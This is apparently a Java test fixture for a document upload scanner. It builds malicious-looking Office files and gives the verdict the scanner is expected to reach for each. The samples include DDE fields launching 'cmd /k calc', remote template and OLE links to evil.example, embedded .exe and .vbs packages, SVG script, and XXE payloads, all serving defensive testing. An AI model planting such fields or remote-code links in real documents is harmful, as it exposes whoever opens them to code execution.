package org.coursewarecommons.inspection.worker;

import static org.coursewarecommons.inspection.worker.HostileArchives.text;
import static org.coursewarecommons.inspection.worker.OfficeFiles.action;
import static org.coursewarecommons.inspection.worker.OfficeFiles.docx;
import static org.coursewarecommons.inspection.worker.OfficeFiles.excel4;
import static org.coursewarecommons.inspection.worker.OfficeFiles.ole;
import static org.coursewarecommons.inspection.worker.OfficeFiles.packed;
import static org.coursewarecommons.inspection.worker.OfficeFiles.relationship;
import static org.coursewarecommons.inspection.worker.OfficeFiles.with;
import static org.coursewarecommons.inspection.worker.OfficeFiles.xlsx;

import java.util.HexFormat;
import java.util.List;
import java.util.stream.Stream;

/** Office files that run, call or fetch something when a colleague opens them. */
final class HostileOffice {

    private static final String TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String WORD =
            "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                    + "<w:body><w:p>%s</w:p></w:body></w:document>";

    private HostileOffice() {}

    static List<Sample> all() {
        return Stream.of(macros(), calls(), references(), objects(), parts())
                .flatMap(List::stream)
                .toList();
    }

    private static List<Sample> macros() {
        return List.of(
                Sample.quarantined("macro-part.docx", "macro", () -> docx("word/vbaProject.bin", "macro")),
                Sample.quarantined(
                        "macro-part-elsewhere.pptx",
                        "macro",
                        () -> with(TestFiles.pptx("text"), "ppt/media/VBAPROJECT.BIN", text("macro"))),
                Sample.quarantined(
                        "macro-type.docx",
                        "macro",
                        () -> docx(
                                "[Content_Types].xml",
                                "<Types><Override PartName=\"/word/document.xml\""
                                        + " ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")),
                Sample.failed("macro-extension.pptm", "extension-not-allowed", () -> TestFiles.pptx("text")),
                Sample.quarantined(
                        "macro-relationship.docx",
                        "macro",
                        () -> docx(
                                "word/_rels/document.xml.rels",
                                relationship(
                                        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                                        "a.dat",
                                        ""))),
                Sample.quarantined(
                        "macro-sheet-excel4.xlsx",
                        "macro",
                        () -> with(xlsx(), "xl/macrosheets/sheet1.xml", text("<xm:macrosheet xmlns:xm=\"x\"/>"))),
                Sample.quarantined(
                        "macro-auto-open.xlsx",
                        "macro",
                        () -> with(
                                xlsx(),
                                "xl/workbook.xml",
                                text(
                                        "<workbook xmlns=\"x\"><definedNames><definedName name=\"_xlnm.Auto_Open\">m!A1</definedName>"
                                                + "</definedNames></workbook>"))),
                Sample.quarantined(
                        "macro-on-click.pptx",
                        "macro",
                        () -> with(
                                TestFiles.pptx("text"), "ppt/slides/slide1.xml", action("ppaction://macro?name=evil"))),
                Sample.quarantined(
                        "macro-in-embedded-sheet.docx",
                        "macro",
                        () -> with(
                                TestFiles.docx("text"),
                                "word/embeddings/oleObject1.bin",
                                ole("_VBA_PROJECT", text("vba")))),
                Sample.quarantined(
                        "macro-excel4-in-embedded-sheet.docx",
                        "macro",
                        () -> with(TestFiles.docx("text"), "word/embeddings/sheet.xls", ole("Workbook", excel4()))),
                Sample.quarantined(
                        "macro-in-embedded-package.pptx",
                        "macro",
                        () -> with(
                                TestFiles.pptx("text"),
                                "ppt/embeddings/sheet.xlsx",
                                with(xlsx(), "xl/vbaProject.bin", text("macro")))));
    }

    private static List<Sample> calls() {
        return List.of(
                Sample.quarantined(
                        "dde-in-pieces.docx",
                        "dde",
                        () -> docx(
                                "word/document.xml",
                                WORD.formatted(
                                        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>"
                                                + "<w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe \"/k calc\"</w:instrText></w:r>"))),
                Sample.quarantined(
                        "dde-simple.docx",
                        "dde",
                        () -> docx(
                                "word/footer1.xml",
                                WORD.formatted("<w:fldSimple w:instr=\"dde cmd &quot;/k calc&quot;\"/>"))),
                Sample.quarantined(
                        "dde-link.xlsx",
                        "dde",
                        () -> with(
                                xlsx(),
                                "xl/externalLinks/externalLink1.xml",
                                text(
                                        "<externalLink xmlns=\"x\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"))),
                Sample.quarantined(
                        "program-on-click.pptx",
                        "launch",
                        () -> with(TestFiles.pptx("text"), "ppt/slides/slide1.xml", action("ppaction://program"))));
    }

    private static List<Sample> references() {
        return List.of(
                Sample.quarantined(
                        "remote-template.docx",
                        "external-code",
                        () -> docx(
                                "word/_rels/settings.xml.rels",
                                relationship(TYPES + "attachedTemplate", "https://evil.example/a.dotm", "External"))),
                Sample.quarantined(
                        "remote-object.docx",
                        "external-code",
                        () -> docx(
                                "word/_rels/document.xml.rels",
                                relationship(
                                        TYPES + "oleObject", "mhtml:https://evil.example/!x-usc:x.html", "External"))),
                Sample.quarantined(
                        "remote-frame.docx",
                        "external-code",
                        () -> docx(
                                "word/_rels/webSettings.xml.rels",
                                relationship(TYPES + "frame", "\\\\203.0.113.9\\share\\a.html", "External"))),
                Sample.quarantined(
                        "script-link.pptx",
                        "external-code",
                        () -> with(
                                TestFiles.pptx("text"),
                                "ppt/slides/_rels/slide1.xml.rels",
                                text(relationship(TYPES + "hyperlink", "javascript:alert(1)", "External")))),
                Sample.review(
                        "remote-picture.docx",
                        "external-reference",
                        () -> docx(
                                "word/_rels/document.xml.rels",
                                relationship(TYPES + "image", "https://tracker.example/1.png", "External"))),
                Sample.review(
                        "link-to-share.docx",
                        "external-reference",
                        () -> docx(
                                "word/_rels/document.xml.rels",
                                relationship(TYPES + "hyperlink", "file://203.0.113.9/share", "External"))),
                Sample.review(
                        "linked-workbook.xlsx",
                        "external-reference",
                        () -> with(
                                xlsx(),
                                "xl/externalLinks/_rels/externalLink1.xml.rels",
                                text(relationship(TYPES + "externalLinkPath", "file:///C:/成绩.xlsx", "External")))),
                Sample.review(
                        "fetching-field.docx",
                        "external-reference",
                        () -> docx(
                                "word/document.xml",
                                WORD.formatted(
                                        "<w:fldSimple w:instr=\"INCLUDEPICTURE &quot;http://tracker.example/1.png&quot;\"/>"))));
    }

    private static List<Sample> objects() {
        return List.of(
                Sample.quarantined(
                        "program-embedded.docx",
                        "executable",
                        () -> with(
                                TestFiles.docx("text"),
                                "word/embeddings/oleObject1.bin",
                                ole("\u0001Ole10Native", packed("课件.exe", HostileArchives.program())))),
                Sample.quarantined(
                        "script-embedded.pptx",
                        "executable",
                        () -> with(
                                TestFiles.pptx("text"),
                                "ppt/embeddings/oleObject1.bin",
                                ole("\u0001Ole10Native", packed("lesson.vbs", text("evil"))))),
                Sample.review(
                        "text-embedded.docx",
                        "embedded-object",
                        () -> with(
                                TestFiles.docx("text"),
                                "word/embeddings/oleObject1.bin",
                                ole("\u0001Ole10Native", packed("notes.txt", text("notes"))))),
                Sample.quarantined(
                        "program-as-media.pptx",
                        "executable",
                        () -> with(TestFiles.pptx("text"), "ppt/media/image1.png", HostileArchives.program())),
                Sample.review(
                        "control.pptx",
                        "active-content",
                        () -> with(TestFiles.pptx("text"), "ppt/activeX/activeX1.bin", new byte[16])),
                Sample.failed(
                        "object-as-picture.docx",
                        "type-mismatch",
                        () -> with(TestFiles.docx("text"), "word/media/image1.png", ole("WordDocument", new byte[16]))),
                Sample.failed("script-part.docx", "script", () -> docx("word/evil.js", "WScript.Echo(1)")),
                Sample.failed(
                        "script-in-drawing.pptx",
                        "script",
                        () -> with(
                                TestFiles.pptx("text"),
                                "ppt/media/image1.svg",
                                text("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"))),
                Sample.failed(
                        "link-script-in-drawing.pptx",
                        "script",
                        () -> with(
                                TestFiles.pptx("text"),
                                "ppt/media/image1.svg",
                                text(
                                        "<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"java&#10;script:alert(1)\"/></svg>"))),
                Sample.failed(
                        "picture-flood.pptx",
                        "picture-limit",
                        () -> with(
                                TestFiles.pptx("text"),
                                "ppt/media/image1.png",
                                TestFiles.pngClaiming(60_000, 60_000))));
    }

    private static List<Sample> parts() {
        return List.of(
                Sample.failed(
                        "xxe.docx", "xml-entity", () -> docx("word/document.xml", HostileArchives.xxe("document"))),
                Sample.failed(
                        "xxe.xlsx",
                        "xml-entity",
                        () -> with(xlsx(), "xl/worksheets/sheet1.xml", text(HostileArchives.xxe("worksheet")))),
                Sample.failed(
                        "xxe-relationships.pptx",
                        "xml-entity",
                        () -> with(
                                TestFiles.pptx("text"),
                                "ppt/_rels/presentation.xml.rels",
                                text(HostileArchives.xxe("r")))),
                Sample.failed(
                        "laughs.pptx",
                        "xml-entity",
                        () -> with(
                                TestFiles.pptx("text"), "ppt/slides/slide1.xml", text(HostileArchives.laughs("sld")))),
                Sample.failed(
                        "document-type-after-comment.docx",
                        "xml-entity",
                        () -> docx(
                                "word/document.xml",
                                "<!--" + HexFormat.of().formatHex(HostileArchives.noise(150_000))
                                        + "--><!DOCTYPE d SYSTEM \"http://127.0.0.1:9/\"><d/>")),
                Sample.failed("encrypted.docx", "encrypted", TestFiles::protectedDocx),
                Sample.failed("slides-named-document.docx", "type-mismatch", () -> TestFiles.pptx("text")),
                Sample.quarantined(
                        "signature.pptx",
                        "malware",
                        () -> with(TestFiles.pptx("text"), "ppt/media/image1.png", TestFiles.eicar())));
    }
}
